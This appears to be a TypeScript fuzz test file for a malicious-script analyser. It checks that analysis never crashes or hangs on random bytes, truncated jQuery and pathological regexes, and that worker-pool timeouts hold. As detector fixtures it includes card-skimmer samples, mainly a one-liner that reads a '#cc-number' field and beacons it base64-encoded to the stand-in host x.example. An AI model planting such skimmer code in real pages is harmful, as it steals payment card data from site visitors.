// The analyser under attack: whatever bytes a page serves, analysis returns plain data (a finding,
// a parse error) and never throws or hangs. In-process for volume; the pool for the budgets.
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { Analyzer, analyseSource, sha256 } from '../../src/analyse/index.js';
import type { ScriptAnalysis } from '../../src/analyse/types.js';

const jquery = readFileSync(new URL('../../node_modules/jquery/dist/jquery.min.js', import.meta.url), 'utf8');
const skimmerish = `document.querySelector('#cc-number').addEventListener('blur',function(){new Image().src='https://x.example/p?d='+btoa(this.value)});`;

function analyse(source: string): ScriptAnalysis {
  return analyseSource({ sha256: sha256(source), source, url: null, kind: 'inline' });
}

function wellFormed(a: ScriptAnalysis): void {
  expect(Array.isArray(a.findings)).toBe(true);
  expect(JSON.parse(JSON.stringify(a))).toEqual(a);
  for (const f of a.findings) {
    expect(f.line).toBeGreaterThanOrEqual(1);
    expect(f.column).toBeGreaterThanOrEqual(1);
  }
}

describe('analysis never crashes on hostile input', () => {
  it('random strings and byte soup', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 2000 }), (s) => { wellFormed(analyse(s)); }), { numRuns: 300 });
  });

  it('truncated real libraries and skimmers (every cut is a syntax error somewhere)', () => {
    fc.assert(fc.property(fc.integer({ min: 0, max: jquery.length }), fc.integer({ min: 0, max: skimmerish.length }), (a, b) => {
      wellFormed(analyse(jquery.slice(0, a)));
      wellFormed(analyse(skimmerish.slice(0, b) + jquery.slice(a, a + 500)));
    }), { numRuns: 12 });
  });

  it('JavaScript-shaped noise: brackets, quotes, templates, regexes', () => {
    const token = fc.constantFrom('(', ')', '{', '}', '[', ']', '`', '${', "'", '"', '/', '/g', 'eval', 'atob(', 'new Function(', '=>', ';', ',', '.value', 'fetch(', 'x', '1', '\n', '\\', '<!--', '-->', '#', '?.', '??=', 'async', 'await', 'class', 'import(', 'yield');
    fc.assert(fc.property(fc.array(token, { maxLength: 300 }), (parts) => { wellFormed(analyse(parts.join(''))); }), { numRuns: 400 });
  });

  it('deep nesting, huge literals and pathological regexes', () => {
    wellFormed(analyse(`${'('.repeat(5000)}1${')'.repeat(5000)}`));
    wellFormed(analyse(`var a = ${'['.repeat(3000)}${']'.repeat(3000)};`));
    wellFormed(analyse(`var s = "${'A'.repeat(2_000_000)}";`));
    wellFormed(analyse(`var r = /${'(a+)+'.repeat(200)}$/; r.test('${'a'.repeat(5000)}!');`));
    wellFormed(analyse(`eval(${'"eval(" + '.repeat(500)}"1"${' + ")"'.repeat(500)});`));
    wellFormed(analyse(`var x = ${Array.from({ length: 20000 }, (_, i) => `'s${i}'`).join('+')};`));
  });

  it('3,000 variables each built from the last with .concat (Babel output): every rule still runs', () => {
    let code = "var a = location.hash; var u0 = 'https://x.example/';";
    for (let i = 1; i <= 3000; i++) code += ` var u${i} = u${i - 1}.concat(a);`;
    code += " new Image().src = u3000 + document.getElementById('cc-number').value;";
    const r = analyseSource({ sha256: sha256(code), source: code, url: null, kind: 'inline' }, { rethrow: false });
    expect(r.findings.filter((f) => f.ruleId === 'rule-error' || f.ruleId === 'analysis-error').map((f) => f.message)).toEqual([]);
    expect(r.findings.some((f) => f.ruleId === 'skimmer')).toBe(true);
  });
});

describe('budgets hold in the worker pool', () => {
  const analyzer = new Analyzer({ workers: 1, timeoutMs: 3000 });
  afterAll(async () => { await analyzer.close(); });

  it('a script over its time budget becomes an analysis-timeout finding, and the pool goes on', async () => {
    // String-array decoding with a step budget keeps this finite; a huge flat concatenation is slow.
    const slow = `var s = ${Array.from({ length: 400_000 }, (_, i) => `"${i}"`).join('+')}; eval(s);`;
    const started = Date.now();
    const a = await analyzer.analyse({ sha256: sha256(slow), source: slow, url: null, kind: 'inline' });
    expect(Date.now() - started).toBeLessThan(30_000);
    wellFormed(a);
    const next = await analyzer.analyse({ sha256: sha256(skimmerish), source: skimmerish, url: null, kind: 'inline' });
    expect(next.findings.length).toBeGreaterThan(0);
  }, 60_000);
});
